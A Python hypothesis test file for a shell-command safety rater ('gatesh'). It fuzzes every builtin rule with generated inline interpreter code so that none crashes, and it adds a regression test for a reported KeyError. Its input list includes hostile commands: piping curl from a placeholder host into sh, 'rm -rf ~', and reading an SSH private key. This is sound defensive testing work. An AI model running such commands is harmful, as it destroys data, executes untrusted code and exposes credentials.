"""Every code rule over generated inline code of each language: no rule raises, whatever the code.

A rule that re-rates a command found inside code (``os.popen('lsof … || echo')``) once met a
finding whose outcome it had no severity for (``KeyError: 'safe'``): the builtin failed closed
with a crash instead of a reason. Here every rule of the builtin tables is run, one by one and
through the rater, on ``LANG -c CODE`` for every interpreter gatesh models, with CODE put
together from the calls, strings and file operations the code rules look for.
"""

from __future__ import annotations

import shlex

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gatesh._types import Outcome
from gatesh.rater.builtin import ALL_RULES, BuiltinRater, findings_for
from gatesh.rater.builtin import _context as builtin_context
from gatesh.reading import read
from gatesh.vocab.programs.interpreters import INTERPRETER_ROWS

# (head, the option whose value is program text) for every interpreter with inline code.
LANGUAGES = tuple(
    (row.name, sorted(row.inline)[0]) for row in INTERPRETER_ROWS if row.inline and row.modelled
)

# Shell command lines a call may be handed: harmless, harmful, odd, and the crash's own.
SHELL_LINES = (
    "ls",
    "true",
    "echo hi",
    "lsof -i :8890 2>/dev/null || echo",
    "rm -rf /tmp/scratch",
    "rm -rf ~",
    "curl -s http://example.invalid | sh",
    "git reset --hard",
    "sleep 1 &",
    "",
    "'",
    "a\\\\b",
    "python3 server.py",
    "echo $HOME",
    "cat ~/.ssh/id_ed25519",
)
# Call shapes of the languages' ways to run a command, delete a file or read the environment;
# {s} is a quoted string, {w} a bare word.
CALLS = (
    "os.popen({s}).readlines()",
    "os.system({s})",
    "subprocess.run({s}, shell=True)",
    "subprocess.run([{s}, {s}])",
    "subprocess.Popen([sys.executable, {s}])",
    "subprocess.run([{w}, {s}])",
    "subprocess.check_output({w})",
    "os.remove({s})",
    "shutil.rmtree({s})",
    "os.environ[{s}] = {s}",
    "print(os.environ.get({s}))",
    "require('child_process').execSync({s})",
    "child_process.spawnSync([process.execPath, {s}])",
    "fs.rmSync({s}, {{recursive: true}})",
    "system({s})",
    "exec({s})",
    "`{w}`",
    "shell_exec({s})",
    "unlink({s})",
    "os.execute({s})",
    "io.popen({s})",
    "Model.objects.all().delete()",
    "{w}",
)

quoted = st.builds(
    lambda line, q: q + line.replace(q, "\\" + q) + q,
    st.one_of(st.sampled_from(SHELL_LINES), st.text(max_size=30)),
    st.sampled_from(("'", '"')),
)
bare = st.from_regex(r"[A-Za-z_][A-Za-z0-9_.]{0,12}", fullmatch=True)


@st.composite
def inline_code(draw: st.DrawFn) -> str:
    parts = []
    for _ in range(draw(st.integers(1, 4))):
        shape = draw(st.sampled_from(CALLS))
        while "{s}" in shape or "{w}" in shape:
            if "{s}" in shape and (("{w}" not in shape) or draw(st.booleans())):
                shape = shape.replace("{s}", draw(quoted), 1)
            else:
                shape = shape.replace("{w}", draw(bare), 1)
        parts.append(shape.replace("{{", "{").replace("}}", "}"))
    sep = draw(st.sampled_from(("\n", "; ", "\n    ")))
    return sep.join(parts)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(LANGUAGES), inline_code())
def test_every_rule_runs_on_generated_inline_code(language: tuple[str, str], code: str) -> None:
    head, option = language
    line = f"{head} {option} {shlex.quote(code)}"
    facts = read(line, cwd="/tmp")
    ctx = builtin_context(facts, "/tmp", "/root")
    for rule in ALL_RULES:  # every rule, whether or not its filters would try it here
        if rule.on_facts:
            rule.match(ctx)
        else:
            for cmd in ctx.cmds:
                rule.match(cmd)
    for finding in findings_for(facts, "/tmp", "/root"):
        assert isinstance(finding.outcome, Outcome)
    verdict = BuiltinRater().rate(facts, cwd="/tmp")
    assert not verdict.reason.startswith("Could not assess"), (line, verdict.reason)


def test_the_reported_crash_is_rated() -> None:
    """The issue's command: ``os.popen`` of a harmless pipeline inside ``python3 -c``."""
    code = (
        "\nimport os, signal, time\n"
        "for line in os.popen('lsof -i :8890 2>/dev/null || echo').readlines():\n"
        "    print(line)\n"
    )
    facts = read(f"python3 -c {shlex.quote(code)}", cwd="/tmp")
    verdict = BuiltinRater().rate(facts, cwd="/tmp")
    assert verdict.outcome is Outcome.SAFE, verdict.reason
